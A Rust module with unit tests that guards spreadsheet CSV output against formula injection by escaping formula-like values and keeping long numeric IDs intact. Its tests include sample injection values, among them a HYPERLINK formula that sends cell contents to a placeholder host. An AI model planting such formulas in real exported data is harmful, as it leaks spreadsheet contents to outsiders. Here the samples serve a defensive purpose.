//! The values of `-o csv --spreadsheet`, which a spreadsheet shows as they are and does not run.
//!
//! A spreadsheet evaluates any value that starts like a formula, whoever wrote it: a title such as
//! `=HYPERLINK(…)` or `@SUM(…)` can send other cells of the sheet to somebody. An apostrophe before
//! it makes it a text. See <https://owasp.org/www-community/attacks/CSV_Injection>.

use super::visible::{Part, parts};

/// Tells a spreadsheet that the file is UTF-8.
pub(super) const BYTE_ORDER_MARK: &str = "\u{feff}";

/// Returns a value as a spreadsheet should get it.
pub(super) fn cell(value: &str) -> String {
    let text = without_controls(value);
    if would_lose_digits(&text) {
        return format!("'{text}");
    }
    // Where the separator of lists is a semicolon, a value can continue in the next cell, and with
    // unbalanced quotes in the next row.
    let mut cell = String::with_capacity(text.len() + 1);
    for part in text.split_inclusive([';', '\n']) {
        if is_formula(part) {
            cell.push('\'');
        }
        cell.push_str(part);
    }
    cell
}

/// Replaces what no cell should contain. Line breaks stay, as a spreadsheet writes them in a cell.
fn without_controls(value: &str) -> String {
    let mut text = String::with_capacity(value.len());
    for part in parts(&value.replace("\r\n", "\n")) {
        match part {
            Part::Safe(stretch) => text.push_str(stretch),
            Part::Unsafe('\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}') => text.push('\n'),
            Part::Unsafe(character) if character.is_control() => text.push(' '),
            Part::Unsafe(_) => {}
        }
    }
    text
}

/// Returns whether a text begins like a formula. Spreadsheets ignore blanks before it, and some also
/// quotation marks. East Asian ones know the wide signs too.
fn is_formula(text: &str) -> bool {
    let is_ignored =
        |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '\u{ad}' | '\u{200b}'..='\u{200d}' | '\u{2060}');
    let start = text.trim_start_matches(is_ignored);
    start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'])
}

/// Returns whether a spreadsheet would read a text as a number that it cannot hold: it keeps 15
/// digits, drops zeros at the beginning, and multiplies `12e3`.
fn would_lose_digits(text: &str) -> bool {
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    match text.trim().split_once(['e', 'E']) {
        Some((number, exponent)) => is_number(number) && is_number(exponent),
        None => {
            is_number(text.trim()) && (text.trim().len() > 15 || text.trim().starts_with('0') && text.trim() != "0")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn no_value_is_a_formula() {
        for (value, expected) in [
            ("=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"),
            ("+1", "'+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("＝1", "'＝1"),
            ("－1", "'－1"),
            (" \u{a0}=1", "' \u{a0}=1"),
            ("\u{200b}=1", "'\u{200b}=1"),
            ("\u{feff}=1", "'=1"),
            ("\u{202e}=1", "'=1"),
            ("\"=1", "'\"=1"),
            ("'=1", "''=1"),
            ("\t=1", "' =1"),
            ("\r=1", "\n'=1"),
            ("\u{0}=1", "' =1"),
            ("one;=1;\"=2", "one;'=1;'\"=2"),
            ("one\r\n=1", "one\n'=1"),
            ("a=1, b-c @d +e", "a=1, b-c @d +e"),
            ("", ""),
            ("日本語 – title; next", "日本語 – title; next"),
        ] {
            assert_eq!(cell(value), expected, "{value:?}");
        }
    }

    #[test]
    fn an_id_keeps_its_digits() {
        for (value, expected) in [
            ("601308802842759168", "'601308802842759168"),
            ("123456789012345", "123456789012345"),
            ("0815", "'0815"),
            ("0", "0"),
            ("12e34", "'12e34"),
            ("5E10", "'5E10"),
            ("2026", "2026"),
            ("1e", "1e"),
            ("e1", "e1"),
            ("ses-0815", "ses-0815"),
        ] {
            assert_eq!(cell(value), expected, "{value:?}");
        }
    }
}
